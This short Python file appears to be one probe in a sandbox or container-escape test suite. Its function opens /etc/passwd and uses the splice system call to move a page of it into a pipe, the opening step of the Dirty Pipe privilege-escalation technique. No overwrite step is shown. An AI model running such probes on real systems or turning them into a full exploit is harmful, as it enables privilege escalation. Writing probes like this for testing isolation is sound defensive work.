"""A page of a template file in a pipe, then written."""

import ctypes
import os

from escape import attempt, call


@attempt
def dirty_pipe():
    file = os.open("/etc/passwd", os.O_RDONLY)
    reader, writer = os.pipe()
    offset = ctypes.c_long(0)
    call("splice", file, offset, writer, None, 1, 0)
    return "spliced a page of the template into a pipe"
